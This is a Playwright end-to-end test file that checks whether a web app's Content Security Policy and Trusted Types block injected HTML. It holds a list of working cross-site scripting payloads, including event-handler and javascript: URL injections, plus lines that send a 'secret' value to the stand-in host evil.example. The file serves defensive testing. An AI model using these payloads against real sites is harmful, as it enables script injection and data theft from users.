"""The page's policy by itself: what the sanitiser would have let through does not run, and nothing else makes HTML."""

from collections.abc import Callable, Iterator

import pytest
from playwright.sync_api import Browser, Error, Page, Route

from tests.e2e.browser import at_browser
from tests.stack import Stack

pytestmark = pytest.mark.e2e
# Each sets `window.hit` when it runs, or reaches another host.
PAYLOADS = [
    "<script>window.hit = 1</script>",
    "<script src='data:text/javascript,window.hit=1'></script>",
    "<script src='https://evil.example/x.js'></script>",
    "<script type=module>window.hit = 1</script>",
    "<img src=x onerror='window.hit=1'>",
    "<svg onload='window.hit=1'></svg>",
    "<svg><script>window.hit=1</script></svg>",
    "<svg><animate onbegin='window.hit=1' attributeName=x dur=1s></svg>",
    "<details open ontoggle='window.hit=1'>x</details>",
    "<input autofocus onfocus='window.hit=1'>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<iframe src='javascript:parent.hit=1'></iframe>",
    "<object data='data:text/html,<script>parent.hit=1</script>'></object>",
    "<embed src='data:text/html,<script>parent.hit=1</script>'>",
    "<a id=go href='javascript:window.hit=1'>x</a>",
    "<form id=send action='javascript:window.hit=1'><button>x</button></form>",
    "<form id=send action='https://evil.example/'><input name=q value=secret></form>",
    "<img src='https://evil.example/?q=secret'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style='background:url(https://evil.example/)'>x</div>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<link rel=prefetch href='https://evil.example/x'>",
    "<video src='https://evil.example/v' autoplay></video>",
    "<base href='https://evil.example/'><img src='x'>",
]
# The ways by which the server's HTML reaches a page: as a part of it, and as a fragment that htmx swaps in.
SWAP = """htmx.ajax("GET", "/conversations/", { target: "#content", swap: "innerHTML" })"""
PROVOKE = """async () => {
    document.getElementById("go")?.click();
    document.getElementById("send")?.requestSubmit();
    await new Promise((resolve) => setTimeout(resolve, 150));
    return [window.hit, location.origin];
}"""


@pytest.fixture(scope="module")
def page(browser: Browser, stack: Stack) -> Iterator[Page]:
    with at_browser(browser, stack) as user:
        user.sign_in("alice")
        yield user.page


@pytest.fixture
def elsewhere(page: Page) -> Iterator[list[str]]:
    """Addresses of another host that the browser asked for."""
    asked: list[str] = []

    def note(route: Route) -> None:
        asked.append(route.request.url)
        route.abort()

    page.route("**://evil.example/**", note)
    yield asked
    page.unroute("**://evil.example/**")


def put_into_page(page: Page, payload: str) -> None:
    """The real page with its real headers, and the payload as if no sanitiser had seen it."""

    def serve(route: Route) -> None:
        response = route.fetch()
        route.fulfill(response=response, body=response.text().replace("</main>", f"{payload}</main>"))

    page.route("**/", serve, times=1)
    page.goto(page.url)


def put_into_fragment(page: Page, payload: str) -> None:
    page.goto(page.url)
    page.route("**/conversations/", lambda route: route.fulfill(content_type="text/html", body=payload), times=1)
    page.evaluate(SWAP)


@pytest.mark.parametrize("put", [put_into_page, put_into_fragment])
@pytest.mark.parametrize("payload", PAYLOADS)
def test_c02_the_policy_alone_stops_what_a_sanitiser_would_miss(
    page: Page, stack: Stack, elsewhere: list[str], put: Callable[[Page, str], None], payload: str
) -> None:
    put(page, payload)
    assert page.evaluate(PROVOKE) == [None, stack.base_url]
    assert elsewhere == []


def test_c02_the_attempts_would_succeed_without_the_policy(page: Page) -> None:
    """So that the test above can fail."""

    def serve(route: Route) -> None:
        route.fulfill(content_type="text/html", body=f"<!doctype html><title>x</title>{PAYLOADS[4]}{PAYLOADS[0]}")

    page.route("**/unguarded", serve, times=1)
    page.goto(page.url + "unguarded")
    assert page.evaluate("window.hit") == 1
    page.goto(page.url.removesuffix("unguarded"))


def test_text_becomes_html_by_the_policy_of_the_page_only(page: Page) -> None:
    assert page.evaluate("document.body.innerHTML.length > 100")
    for sink in (
        "document.body.innerHTML = '<b>x</b>'",
        "document.body.insertAdjacentHTML('beforeend', '<b>x</b>')",
        "document.write('x')",
        "document.createElement('script').src = '/x.js'",
        "new DOMParser().parseFromString('<b>x</b>', 'text/html')",
        "trustedTypes.createPolicy('another', { createHTML: (html) => html })",
    ):
        with pytest.raises(Error, match="TypeError"):
            page.evaluate(f"() => {{ {sink} }}")


def test_the_way_back_after_signing_out_shows_nothing(browser: Browser, stack: Stack) -> None:
    with at_browser(browser, stack) as user:
        user.sign_in("bob")
        user.open("/knowledge/")
        user.page.get_by_role("heading", name="Knowledge").first.wait_for()
        user.page.evaluate("document.querySelector('form[action*=logout]').requestSubmit()")
        user.page.wait_for_url("**/accounts/**")
        for _ in range(3):
            user.page.go_back()
            user.page.wait_for_load_state()
            assert "/accounts/login/" in user.page.url, user.page.url
